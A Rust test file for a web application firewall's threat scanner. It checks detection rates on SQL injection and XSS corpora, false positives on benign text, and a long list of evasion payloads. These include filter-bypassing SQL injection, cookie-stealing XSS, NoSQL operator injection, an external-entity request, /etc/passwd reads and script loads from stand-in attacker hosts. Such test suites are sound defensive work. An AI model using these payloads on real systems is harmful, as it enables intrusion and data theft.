#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Threat detection: committed corpora, benign traps and known evasions.

use edge_waf::{
    Input, InputKind, RequestInputs, ThreatConfig, ThreatScanner, normalize_text, scan_request,
};

/// Non-blank corpus lines with their 1-based line numbers.
fn corpus_numbered(name: &str) -> Vec<(usize, String)> {
    let path = format!("{}/tests/corpus/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .enumerate()
        .filter(|(_, l)| !l.trim().is_empty())
        .map(|(i, l)| (i + 1, l.to_string()))
        .collect()
}

fn corpus(name: &str) -> Vec<String> {
    corpus_numbered(name).into_iter().map(|(_, l)| l).collect()
}

/// Even-numbered lines (tuning half) or odd-numbered lines (holdout half).
fn half(name: &str, even: bool) -> Vec<String> {
    corpus_numbered(name)
        .into_iter()
        .filter(|(n, _)| (n % 2 == 0) == even)
        .map(|(_, l)| l)
        .collect()
}

fn attack(v: &str) -> bool {
    ThreatScanner::default().is_attack(InputKind::Query, v)
}

fn rate(lines: &[String]) -> (usize, f64) {
    let hits = lines.iter().filter(|l| attack(l)).count();
    (hits, hits as f64 * 100.0 / lines.len() as f64)
}

#[test]
fn corpora_detection_and_false_positive_rates() {
    let sqli = corpus("sqli.txt");
    let xss = corpus("xss.txt");
    let benign = corpus("benign.txt");
    let (sh, sr) = rate(&sqli);
    let (xh, xr) = rate(&xss);
    let (bh, br) = rate(&benign);
    println!("sqli detection: {sh}/{} = {sr:.2}%", sqli.len());
    println!("xss detection:  {xh}/{} = {xr:.2}%", xss.len());
    println!("benign false positives: {bh}/{} = {br:.2}%", benign.len());
    if let Ok(which) = std::env::var("SHOW_MISSES") {
        // SHOW_MISSES=even shows only the tuning half, so the holdout stays unseen.
        let pick = |name: &str| match which.as_str() {
            "even" => half(name, true),
            "odd" => half(name, false),
            _ => corpus(name),
        };
        let s = ThreatScanner::default();
        for l in pick("sqli.txt")
            .iter()
            .chain(&pick("xss.txt"))
            .filter(|l| !attack(l))
        {
            println!("MISS {l}");
        }
        for l in pick("benign.txt").iter().filter(|l| attack(l)) {
            let ids: Vec<&str> = s
                .rules_for(InputKind::Query, l)
                .iter()
                .map(|r| r.id)
                .collect();
            println!("FP {l}  {ids:?}");
        }
    }
    // Floors just under the measured rates (99.18% / 99.34% / 0.38%);
    // libinjection scores 95.01% / 93.23% / 3.59% on the same files.
    assert!(sr >= 99.1, "sqli detection {sr}");
    assert!(xr >= 99.2, "xss detection {xr}");
    assert!(br <= 0.5, "false positives {br}");
}

/// Tuning happens on even-numbered corpus lines; odd-numbered lines are the
/// holdout. Both are printed so overfitting shows as a gap between them.
#[test]
fn tuning_and_holdout_halves() {
    for (label, even) in [("even (tuning)", true), ("odd (holdout)", false)] {
        let (_, sr) = rate(&half("sqli.txt", even));
        let (_, xr) = rate(&half("xss.txt", even));
        let (_, br) = rate(&half("benign.txt", even));
        println!("{label}: sqli {sr:.2}%  xss {xr:.2}%  false positives {br:.2}%");
        // Measured: even 99.43/99.62/0.26, odd 98.94/99.06/0.51.
        assert!(sr >= 98.8, "{label} sqli detection {sr}");
        assert!(xr >= 99.0, "{label} xss detection {xr}");
        assert!(br <= 0.6, "{label} false positives {br}");
    }
}

#[test]
fn benign_traps_pass() {
    let traps = [
        "C#",
        "a--b",
        "O'Brien",
        "select the best plan from the list where it fits",
        "#section",
        "3*4",
        "don't",
        "rock 'n' roll",
        "1 + 1 = 2",
        "SELECT",
        "email me at a@b.com",
        "for (i = 0; i < n; i++)",
        "## Heading\n- item with `code` and **bold**",
        "https://example.com/search?q=rust+wasm&page=2",
        "1700000000",
        "JavaScript: The Good Parts",
        "the union selected a new leader",
        "Drop table tennis lessons",
        "a < b and c > d",
        "<b>bold</b> and <a href=\"https://example.com\">link</a>",
        "Tom's and Jerry's favourite 7 or 8 recipes",
        "80% acrylic and 20% wool",
        "sizes 10 and 12, or 14 if you're tall",
        "@john and @mary are joining; see you at 5",
        "the word 'or' is a conjunction and 'and' is too",
        "She's 5' 10\" and he's 6' 2\"",
        "Use `a && b` or `a || b` in JS",
        "{\"name\": \"O'Reilly\", \"tags\": [\"sql\", \"html\"], \"count\": 3}",
        "Flat 4, 12-14 St. John's Road, London SW11 1AA",
        "Dear Mr. D'Arcy -- thanks for the order #4471; it ships Monday.",
        "- [x] done\n- [ ] todo: update the README (see #12)",
        "price >= 10 and price <= 20",
        "What's 2 + 2? And is 10 > 9?",
        "I'm learning SQL: what does 'GROUP BY' do?",
        "true or false",
        "x is null",
        "is it 'red' or 'blue'?",
        "<note xmlns=\"http://example.com/ns\">hi</note>",
        "data:image/png;base64,iVBORw0KGgo=",
        "font-family: \"Helvetica Neue\", Arial; margin: 0 /* reset */ auto",
        "background: url(/img/bg.png)",
        "select (one, two from the list",
        "in case when you are late then call me at the end",
        // Prose and config that earlier rule versions flagged.
        "Dungeons and Dragons is just a lot of Saxon Violence.",
        "Armenians and Azerbaijanis in Stepanakert rioted",
        "Never face facts; if you do you'll never get up in the morning.",
        "After a time, you may find that \"having\" is not so pleasing a thing",
        "necklace length 16\" or 18\"",
        "\"DROP TABLE\" is dangerous in production, be careful",
        "clap = \"~2.34\"",
        "\"name\": \"demo\", \"version\": \"1.0\"",
        "Import the `window.alert` function from the Web",
        "The [`eval` module",
        "CHRISTMAS STOCKING \"NOT\" STUFFER",
        "\"LIKE\" STAMP",
        "press '+' to zoom in and '-' to zoom out, please",
        "1alert(1)",
        "1,1--",
        "1611-IioXXIG1ti8rspL2vbXFy--",
        "and feedback is a must",
        "Family and friends having meal outdoors",
        // Typographic quotes read as ASCII ones, so prose must still pass.
        "Don\u{2019}t \u{2018}or\u{2019} me \u{2014} it\u{2019}s 5\u{2032} 10\u{2033}",
        "Let\u{2019}s match them against the list",
        "or the one like it",
        "grant access to the team; show me the tables",
        "price in $USD: 10",
        "Set x = \"\" and y = \"\"",
        "/* note */ a/*b*/ c",
        "this[method](args)",
        "level=alert",
        "if (a == alert) x(a)",
        "<title>My page</title>",
        "He said \"hi\"> to me",
        "<img src=\"https://example.com/a.png\"> and a \"quote",
        "version 2.e.g. the next one",
        "execute immediate orders",
        "I <3 u s a",
        "1 + 1 = 2 (a+b)",
        "I import goods from \"China\": the price (in $) is ok",
        "import (and perhaps wait around",
        "we do (1) or (2); do (you) agree?",
        "select @bob for the team",
        "go where you like it",
        "50%off and 20%discount",
        "C#\nnext line about F#\nand more",
        "caf\u{e9}'s menu and na\u{ef}ve \"quotes\"",
        "the level (alert) is high",
        "<a href=\"http://192.168.1.1/\">router</a>",
        "<a href=\"http://[::1]:8080/\">local</a>",
        "<a href=\"https://example.com:443/a\">x</a>",
        "<a href=\"https://web.archive.org/web/2020/https://example.com/\">old</a>",
        "eval.calls = 3",
        "copy the file from '/tmp' to your desk",
        "The wallet 0x742d35Cc6634C0532925a3b844Bc454e4438f44e received funds",
        "db.users is the collection name",
        "He said \\\"hi\\\" and left",
        "Words like 'pro' or 'mpt' rhyme (sort of)",
        "Put your code before </script> please",
        "He said 'Al' + 'Ertugrul' is coming (maybe)",
        // Debian package descriptions and tags.
        "interface::text-mode, role::program, use::text-formatting, works-with::text",
        "kd-Tree implementation for Perl on top of Math::Vector::Real",
        "iterations per second enhancement to Benchmark (documentation)",
        "Tests if ES6 @@toStringTag is supported",
        // Base64 markup that is not active: a SAML response, a paragraph.
        "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPjwvc2FtbHA6UmVzcG9uc2U+",
        "PHA+SGVsbG8gPGI+d29ybGQ8L2I+PC9wPg==",
    ];
    let s = ThreatScanner::default();
    for t in traps {
        for kind in [InputKind::Query, InputKind::Json, InputKind::Header] {
            let rules = s.rules_for(kind, t);
            assert!(
                !s.is_attack(kind, t),
                "false positive on {t:?} ({kind:?}): {rules:?}"
            );
        }
    }
}

#[test]
fn known_evasions_are_detected() {
    let evasions = [
        "1 or true",
        "1*1--",
        "1/**/UnIoN/**/SeLeCt/**/password,1/**/FrOm/**/users",
        "1'/**/or/**/'1'='1",
        "%2527%2520OR%25201%253D1--",
        "1&#x27; OR &#x27;1&#x27;=&#x27;1",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "' or '1'='1",
        "admin'--",
        "'; DROP TABLE users; --",
        "' UNION SELECT username, password FROM users--",
        "1 AND SLEEP(5)",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1 or benchmark(10000000,md5(1))",
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<iframe src=//evil.example>",
        "javascript:alert(document.cookie)",
        "java\tscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "<div style=\"width:expression(alert(1))\">",
        "\" onmouseover=\"alert(1)",
        "\";alert(1)//",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<div style=x:expression\\28write(1)\\29>",
        "<div style=\"background:url('javascript:alert(1)')\">",
        "<a href=\"ja&Tab;vascript&colon;alert(1)\">x</a>",
        "<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/x.xsl\"?>",
        "<x xmlns:v=\"urn:schemas-microsoft-com:vml\">",
        "<a href=\"data:application/octet-stream;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
        "select -1,sin(((1)),2 from bar where",
        "case when 1=1 then 3 end",
        // Comments that end at a newline are whitespace to MySQL.
        "-1%23union%20%23%23%0D%0A--%0D%0Aunion",
        "1%23%0AAND%23%0A9227=9227",
        "1--PTTmJopxdWJ%0AAND--cWfcVRPV%0A9227=9227",
        "1%00UNION%00SELECT%002--",
        "1%A0UNION%A0SELECT%A02--",
        // Appended fragments and probes.
        " OR x=x--",
        " ORDER BY 3",
        "0 or 1 group by concat(version(),floor(rand(0)*2))having min(0) --",
        "2511 and (version() like 0x3325)",
        "4 and 31337-31337=0",
        "1 AND 1 NOT LIKE 0",
        "21 update Content set Title=cast(Title as varchar(8000))",
        "username'declare @s varchar (8000); ...",
        "' is 99999 = '",
        "A '&&' B",
        "' OR '",
        "CHARSET(CURRENT_USER())",
        "FOO,IIF(2510=9436,FOO,1/0)",
        "(select top 1 password from users)",
        "md5(",
        "IF(7423=7423) SELECT 7423 ELSE DROP FUNCTION xcjl--",
        "OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'",
        "' exec sp_addsrvrolemember 'name' , 'sysadmin' --",
        // XSS beyond the obvious.
        "<div style=\"font-family:foo}color=red;\">XXX</div>",
        "<!DOCTYPE x [ <!ENTITY x SYSTEM \"http://evil.example/x\"> ]>",
        "<svg:mast id=\"foo\">",
        "\" type=image src=null onerror=KCF \"",
        "document/*foo*/./*bar*/cookie",
        "window[\"alert\"](window[\"document\"][\"cookie\"])",
        "[].sort.call`${alert}1337`",
        "(![] [])[ ! []]",
        "top['al\\x65rt'](1)",
        "al\\u0065rt(1)",
        "alert`1`",
        "new Function()",
        "'formaction=",
        // Spellings that filters and copy-paste produce.
        "uni/**/on sel/**/ect password from users",
        "\\x27UNION SELECT",
        "' or '1\u{2032}='1",
        "\u{2019} or \u{2019}1\u{2019}=\u{2019}1",
        "\"hi\"\") or (\"\"a\"\"=\"\"a\"",
        // Shapes from sqlmap, fuzzdb and PayloadBox lists.
        ") or (a=a",
        " group by userid having 1=1--",
        " or username like char(37);",
        "'; show tables; --",
        "' grant connect to name; grant resource to name; --",
        "' || myappadmin.adduser('admin', 'newpass') || '",
        "' insert into users(login, password) values( char(0x70), char(0x64)",
        "A 'REGEXP' B",
        "' or MATCH username AGAINST ('+admin -a' IN BOOLEAN MODE); -- -a",
        "1')) as vdhw where 8858=8858 order by 1#",
        "1' in boolean mode) order by 1--",
        "1'+(select 'ezpy' where 5282=5282 order by 1#",
        "1',(case when 2872=2872 then 1 else null end)",
        "(1589=1589)*1",
        "select 'qqpjq'||(case 5118 when 5118 then 1 else 0 end)||'qzvzq' from rdb$database",
        // MongoDB operators in key position.
        "user[$ne]=1",
        "{\"$gt\": \"\"}",
        "', $where: '1 == 1'",
        "insert into mysql.user (user, host) values ('name', 'localhost')",
        "create user name identified by 'pass123'",
        // XSS from fuzzdb, HttpParamsDataset and PortSwigger's cheat sheet.
        "<IMG%0aSRC%0a=%0a\"%0aj%0aa%0av%0aa%0as%0ac%0ar%0ai%0ap%0at%0a:%0aa%0al%0ae%0ar%0at%0a(1)\">",
        "';a=prompt,a()//",
        "$,_=1}}).$=alert</script>",
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>",
        "</title><img src=x>",
        "'';!--\"<XSS>=&{()}",
        "mhtml:http://example.com/test.html!xss.html",
        "';this['ale'+'rt'](1);//",
        "';top[(+{}+[])[+!![]]+(![]+[])[!+[]+!![]]]((+{}+[])[+!![]]);//",
        "<img src=\"//evil.example/?",
        "<form><button formaction=//evil.example>go</button>",
        // OWASP CRS paranoia-level-1 tests outside the committed corpus.
        "ja&tab;vascript: ",
        "test=%3C%3Avmlframe%20src%3D",
        "PHPSESSID%3Cf%20o%20r%20m=1234",
        "Reflect.apply.call`${navigation.navigate}`",
        "\\xbctest\\xbetest(\\xa2XSS\\xa2)\\xbc/test\\xbe",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "1.e(ascii)",
        "1.e.tables",
        "EXECUTE IMMEDIATE \"",
        "procedure analyse (",
        "1234 AS \"foobar\" FROM tablevar2=whatever",
        "ALTER TABLE `mails` CHANGE `receivers` `receivers` ENUM('A','B') CHARACTER SET utf8",
        "'{\"a\":2,\"c\":[4,5,{\"f\":7}]}' < '$.c[2].f' = 7",
        "self[\"\\x24\"]",
        "import { sayHi, sayBye } from \"./greeting.js\";",
        "import('//evil.example/x.js')",
        // libinjection data lines outside the committed sample.
        "1;do (1=1)",
        "TRUE DIV(SELECT ((ORD(LEFT",
        "select @version foo",
        "<<scr\\0ipt/src=http://evil.example/x.js></script",
        // sqlmap tamper scripts (percentage, equaltolike, space2hash).
        "1) as ndgd w%h%e%r%e 2367=2367 o%r 8156=(s%e%l%e%c%t count(*) f%r%o%m users)--",
        "1' where 8635 LIKE 8635 order by 1--",
        "1,iif(6625 LIKE 6625,1,1/0)",
        "1'+(select%23%0aijoh%23%0awhere%23%0a7145=7145%23%0aorder%23%0aby%23%0a1--",
        "%23%0a(%23%0aBINARY%23%0a(%23%0a1%23%0aOR%23%0a1)%23%0a)%23%0a%23%0a--",
        "%a0(%a0BINARY%a0(%a01%a0OR%a01)%a0)%a0%a0--",
        "1/**/u%N%i%O%n/**/s%E%L%e%C%t/**/1,2,3/**/f%R%o%M/**/jos_users--",
        "a%bf%27%bf%2712%bf%27 and pi()=pi()--",
        "|| '{\"a\":\"b\"}' ? 'a'",
        "(alert)(1)",
        "[1].find(alert)",
        "<xml:namespace prefix=\"t\">",
        // Disguised link hosts (XSS cheat sheet URL obfuscation).
        "<A HREF=\"http://1113982867/\">XSS</A>",
        "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
        "<A HREF=\"http://0102.0146.0007.00000223/\">XSS</A>",
        "<A HREF=\"htt\tp://6\t6.000146.0x7.147/\">XSS</A>",
        "<A HREF=\"http://google:ha.ckers.org\">XSS</A>",
        "<A HREF=\"http://ha.ckers.org@google\">XSS</A>",
        "<A HREF=\"http://www.gohttp://www.google.com/ogle.com/\">XSS</A>",
        "[].constructor.constructor(\"alert\" + \"(1)\")()",
        "eval.call(this,unescape.call(this,location))",
        "data: , <x>",
        // Statements on server files, hex-encoded SQL, escaped quotes.
        "copy myfile from '/etc/passwd';",
        "BACKUP database master to disk='\\\\1.2.3.4\\x\\backupdb.dat'",
        "0x77616974666F722064656C61792027303A303A313027",
        "0x730065006c0065006300740020004000400076006500",
        "\\'; desc users; --",
        // MongoDB $where JavaScript and shell calls.
        "' && this.password.match(/.*/)//+%00",
        "db.injection.insert({success:1});",
        "or x=y#",
        // Sinks spelled across string literals, passed as callbacks, and a
        // script block closed from the value's first byte.
        "s1=['java'+''+''+'scr'+'ipt'+':'+'aler'+'t'+'(1)'];",
        "d=0||'une'+'scape'||0;a=0||'ev'+'al'||0;b=0||'locatio';b+=0||'n'||0;c=b[a];d=c(d);c(d(c(b)))",
        "[8].findIndex(confirm)",
        "(((confirm)))``",
        "';</script>",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg",
    ];
    for e in evasions {
        assert!(
            attack(e),
            "missed {e:?}: {:?}",
            ThreatScanner::default().rules_for(InputKind::Query, e)
        );
    }
}

#[test]
fn verdict_names_the_input_and_truncates_the_payload() {
    let s = ThreatScanner::default();
    let long = format!("' union select {} from users--", "a,".repeat(200));
    let json = serde_json::json!({
        "messages": [{"role": "user", "content": "<script>alert(1)</script>"}],
        "user": {"$ne": null},
        "metadata": {"$schema": "https://example.com/s.json"}
    })
    .to_string();
    let uri: http::Uri = format!("/search?q={}&page=2&user[$ne]=1", "1%20or%20true")
        .parse()
        .unwrap();
    let mut headers = http::HeaderMap::new();
    headers.insert("user-agent", "sqlmap' or 1=1--".parse().unwrap());
    let v = scan_request(
        &s,
        &RequestInputs::new(&uri, &headers, Some(json.as_bytes())),
    );
    assert!(v.blocked);
    let locs: Vec<&str> = v.findings.iter().map(|f| f.location.as_str()).collect();
    assert!(locs.contains(&"query:q"), "{locs:?}");
    assert!(locs.contains(&"query-name:user[$ne]"), "{locs:?}");
    assert!(
        !locs.iter().any(|l| l.starts_with("query:page")),
        "{locs:?}"
    );
    assert!(locs.contains(&"header:user-agent"), "{locs:?}");
    assert!(locs.contains(&"json:$.messages[0].content"), "{locs:?}");
    assert!(locs.contains(&"body:$.user[\"$ne\"]"), "{locs:?}");
    assert!(!locs.iter().any(|l| l.contains("$schema")), "{locs:?}");
    let f = s.scan_input(&Input::json("$.x", &long)).unwrap();
    assert!(f.excerpt.chars().count() <= 64);
    assert!(f.rules.iter().any(|r| r.id == "sqli-union"));
    assert!(!serde_json::to_string(&f).unwrap().contains(&long));
}

#[test]
fn threshold_and_paranoia_are_configurable() {
    let strict = ThreatScanner::new(ThreatConfig {
        threshold: 3,
        ..ThreatConfig::default()
    });
    assert!(strict.is_attack(InputKind::Query, "concat(0x41,version())"));
    assert!(!ThreatScanner::default().is_attack(InputKind::Query, "concat(a,b)"));
    let pl2 = ThreatScanner::new(ThreatConfig {
        paranoia: 2,
        ..ThreatConfig::default()
    });
    assert!(
        pl2.rules_for(InputKind::Query, "x 0x41414141")
            .iter()
            .any(|r| r.id == "sqli-hex")
    );
    assert!(
        ThreatScanner::default()
            .rules_for(InputKind::Query, "x 0x41414141")
            .is_empty()
    );
}

#[test]
fn normalisation_and_robustness() {
    assert_eq!(
        normalize_text("UNION%2F%2A%2A%2FSELECT", true),
        "union select"
    );
    let s = ThreatScanner::default();
    for v in [
        "%",
        "%%",
        "%u12",
        "&#",
        "&#x;",
        "'",
        "\"",
        "/*",
        "é'ü\"ö",
        "\0\0",
        "<",
        "<a",
        "on",
        "&#99999999999;",
    ] {
        let _ = s.rules_for(InputKind::Query, v);
    }
    let huge = "a".repeat(200_000) + "' or 1=1--";
    assert!(
        !s.is_attack(InputKind::Json, &huge),
        "values are capped at 64 KB"
    );
}

#[test]
fn prose_about_sql_in_json_passes_but_injections_do_not() {
    let s = ThreatScanner::default();
    let prose = [
        "how do I write SELECT * FROM users WHERE id = 1?",
        "Explain this query: SELECT name, email FROM users WHERE created_at > '2024-01-01' ORDER BY name;",
        "Is UNION SELECT slower than a JOIN? e.g. SELECT a FROM t1 UNION SELECT a FROM t2",
        "Fix my code: DELETE FROM sessions WHERE expires < now(); then INSERT INTO log VALUES (1)",
        "In Python: cursor.execute(\"SELECT * FROM t WHERE id = %s\", (user_id,))",
        "What does COUNT(*) return for an empty table?",
        "How do I run copy mytable from '/tmp/x.csv' with a header row in postgres?",
    ];
    for p in prose {
        assert!(
            !s.is_attack(InputKind::Json, p),
            "json prose blocked {p:?}: {:?}",
            s.rules_for(InputKind::Json, p)
        );
    }
    for a in [
        "' UNION SELECT username, password FROM users--",
        "1' or '1'='1",
        "admin'--",
        "1 AND SLEEP(5)",
        "<script>alert(1)</script>",
    ] {
        assert!(s.is_attack(InputKind::Json, a), "json attack missed {a:?}");
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

    #[test]
    fn arbitrary_strings_never_panic(v in "\\PC{0,200}") {
        let s = ThreatScanner::default();
        for kind in [InputKind::Query, InputKind::Json, InputKind::Header, InputKind::Path, InputKind::Body] {
            let _ = s.rules_for(kind, &v);
        }
        let _ = normalize_text(&v, true);
    }

    #[test]
    fn sql_and_html_shaped_strings_never_panic(
        v in proptest::collection::vec(
            proptest::prop_oneof![
                proptest::strategy::Just("'"), proptest::strategy::Just("\""),
                proptest::strategy::Just("--"), proptest::strategy::Just("/*"),
                proptest::strategy::Just("*/"), proptest::strategy::Just("("),
                proptest::strategy::Just(")"), proptest::strategy::Just(" or "),
                proptest::strategy::Just("select"), proptest::strategy::Just("1"),
                proptest::strategy::Just("%"), proptest::strategy::Just("%2"),
                proptest::strategy::Just("&#"), proptest::strategy::Just("<"),
                proptest::strategy::Just("on"), proptest::strategy::Just("="),
                proptest::strategy::Just("\\"), proptest::strategy::Just("é"),
                proptest::strategy::Just("\u{ff1c}"), proptest::strategy::Just("#"),
                proptest::strategy::Just("@@"), proptest::strategy::Just("0x"),
                proptest::strategy::Just("["), proptest::strategy::Just("::"),
            ],
            0..40,
        )
    ) {
        let v = v.concat();
        let s = ThreatScanner::default();
        let _ = s.rules_for(InputKind::Query, &v);
        let _ = s.rules_for(InputKind::Json, &v);
    }
}

/// Development aid: `PROBE=file cargo test --test threat probe -- --ignored
/// --nocapture` prints the rules that fire on each line of `file`.
#[test]
#[ignore = "development aid"]
fn probe() {
    let Ok(path) = std::env::var("PROBE") else {
        return;
    };
    let s = ThreatScanner::default();
    for l in std::fs::read_to_string(path).unwrap().lines() {
        let ids: Vec<&str> = s
            .rules_for(InputKind::Query, l)
            .iter()
            .map(|r| r.id)
            .collect();
        let mark = if s.is_attack(InputKind::Query, l) {
            "HIT "
        } else {
            "pass"
        };
        println!("{mark} {l}  {ids:?}");
    }
}
